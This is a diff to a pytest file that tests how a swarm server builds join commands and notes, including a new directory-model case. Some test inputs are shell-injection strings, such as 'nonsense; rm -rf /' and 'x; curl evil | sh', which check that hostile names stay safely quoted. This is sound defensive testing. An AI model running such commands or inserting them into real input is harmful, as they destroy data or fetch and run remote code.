@@ -236,26 +236,27 @@ OTHER = "/dns4/swarm.example.org/tcp/31331/p2p/QmYyQSo1c1Ym7orWxLYvCrM2EmxFTANf8
 
 
 def words(invitation: Invitation, model: str = MODEL) -> list[str]:
-    return shlex.split(invitation.command(model))[3:]  # after python -m swarm_server
+    return shlex.split(invitation.command(model, is_directory=False))[3:]  # after python -m swarm_server
 
 
 def test_a_swarm_of_this_machine_is_joined_by_its_name():
     invitation = Invitation.of(ClientConfig(swarm="home"), [LOCAL], is_private=False)
     assert words(invitation) == ["--model", MODEL, "--swarm", "home"]
     assert words(Invitation.of(ClientConfig(), [LOCAL], False), "tiny-python-docs") == []
-    assert "Only this machine can join" in invitation.note
+    assert "Only this machine can join" in invitation.note(MODEL, is_directory=False)
 
 
 def test_others_are_joined_through_peers_the_named_ones_first():
     invitation = Invitation.of(ClientConfig(initial_peers=(OTHER,)), [PEER, OTHER, "nonsense; rm -rf /"], False)
     assert words(invitation) == ["--model", MODEL, "--initial-peers", OTHER, PEER]
-    assert invitation.note == ""
+    assert invitation.note(MODEL, is_directory=False) == ""
 
 
 def test_a_private_swarm_says_that_a_membership_is_needed():
     invitation = Invitation.of(ClientConfig(), [PEER], is_private=True)
     assert words(invitation)[2:4] == ["--membership", "MEMBERSHIP_FILE"]
-    assert "ask the swarm's organiser" in invitation.note
+    note = invitation.note(MODEL, is_directory=True)
+    assert note.startswith("The model is a directory") and note.endswith("for a membership file.")
 
 
 @pytest.mark.parametrize("name", ["$(reboot)", "a'b\"c", "x; curl evil | sh", "`id`", "--identity", "a b"])
@@ -263,4 +264,24 @@ def test_a_model_with_a_name_for_a_shell_is_one_word_of_the_command(name):
     invitation = Invitation.of(ClientConfig(), [PEER], False)
     (word,) = [word for word in words(invitation, name) if name in word]
     assert word in (name, f"--model={name}")
-    assert replace(invitation, swarm="home").command(name).count("\n") == 0
+    assert replace(invitation, swarm="home").command(name, is_directory=False).count("\n") == 0
+    joined = shlex.split(invitation.command(name, is_directory=True))
+    assert joined[joined.index("--model") + 1] == f"PATH_TO/{name}"
+
+
+@pytest.mark.parametrize(
+    ("revision", "model"),
+    [("0123456789abcdef", f"PATH_TO/{MODEL}"), ("0123456789" * 4, MODEL)],
+    ids=["directory", "hub"],
+)
+def test_a_directory_is_said_to_be_somewhere_else_on_another_machine(serve, revision, model):
+    monitor = FakeMonitor(server("a", "0:12", revision=revision), revision=revision)
+    (shown,) = serve(monitor).get("/models").json()["models"]
+    assert shlex.split(shown["join_command"])[3:5] == ["--model", model]
+    assert ("The model is a directory: copy it" in shown["join_note"]) == model.startswith("PATH_TO/")
+
+
+def test_the_shipped_model_is_on_every_machine():
+    invitation = Invitation.of(ClientConfig(), [PEER], False)
+    command, note = invitation.as_json("tiny-python-docs", is_directory=True).values()
+    assert "--model" not in command and note == ""
